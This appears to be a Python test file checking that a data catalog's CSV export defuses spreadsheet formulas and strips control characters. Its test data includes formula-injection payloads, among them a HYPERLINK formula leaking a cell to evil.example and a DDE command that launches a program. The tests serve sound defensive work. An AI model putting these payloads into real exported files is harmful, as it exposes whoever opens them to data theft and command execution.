"""Published files are safe to open: no spreadsheet formulas in CSV text cells, no control characters."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pyarrow.parquet as pq
from hypothesis import given
from hypothesis import strategies as st

from catalog.record import PublishedColumn
from catalog.staging import FORMULA_START, CellFixes, write_staged

COLUMNS = [PublishedColumn(name="备注", type="string", action="keep"),
           PublishedColumn(name="金额", type="integer", action="keep")]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
           "   =cmd|' /C calc'!A0", "plain", "a=b"]


def staged(tmp_path, cells, guard=True):
    frame = pd.DataFrame({"备注": pd.array(cells, dtype="string"), "金额": range(-len(cells), 0)})
    fixes = CellFixes()
    write_staged(frame, tmp_path, COLUMNS, ("csv", "json", "parquet"), csv_formula_guard=guard, fixes=fixes)
    with (tmp_path / "data.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    return rows, fixes


def test_formula_cells_get_an_apostrophe_in_csv_only(tmp_path):
    rows, fixes = staged(tmp_path, HOSTILE)
    published = [row["备注"] for row in rows]
    assert published[:7] == ["'" + cell for cell in HOSTILE[:7]]
    assert published[7:] == ["plain", "a=b"]
    assert fixes.formulas_neutralised == 7
    assert rows[0]["金额"] == str(-len(HOSTILE))  # negative numbers in number columns stay numbers
    assert [r["备注"] for r in json.loads((tmp_path / "data.json").read_text(encoding="utf-8"))] == HOSTILE


def test_the_policy_can_turn_the_guard_off(tmp_path):
    rows, fixes = staged(tmp_path, HOSTILE, guard=False)
    assert [row["备注"] for row in rows] == HOSTILE and fixes.formulas_neutralised == 0


def test_nul_and_control_characters_are_replaced_and_counted_in_every_format(tmp_path):
    rows, fixes = staged(tmp_path, ["a\x00b", "c\x1bd\x7f", "tab\tand\nline", None])
    assert [row["备注"] for row in rows][:3] == ["a\ufffdb", "c\ufffdd\ufffd", "tab\tand\nline"]
    assert fixes.control_characters == 3
    assert "\x00" not in (tmp_path / "data.json").read_text(encoding="utf-8")
    assert pq.read_table(tmp_path / "data.parquet").column("备注").to_pylist()[0] == "a\ufffdb"


@given(st.text(alphabet=st.sampled_from(" =+-@\t\rab1"), max_size=6))
def test_no_published_csv_cell_starts_a_formula(tmp_path_factory, cell):
    rows, _ = staged(tmp_path_factory.mktemp("out"), [cell or "x"])
    assert not FORMULA_START.match(rows[0]["备注"])


@given(st.text(alphabet=st.sampled_from(" \t\r\n\u3000\u2003\x1c\x85=+-@ab1"), max_size=6))
def test_the_formula_test_run_by_pyarrow_reads_spaces_as_python_does(text):
    """FORMULA_START spells Python's \\s out so pandas can run it in RE2; it must flag what ^\\s*[=+-@\\t\\r] flags."""
    import re

    flagged = pd.Series([text], dtype="string").str.contains(FORMULA_START.pattern, regex=True).iloc[0]
    assert bool(flagged) == bool(re.search(r"^\s*[=+\-@\t\r]", text))
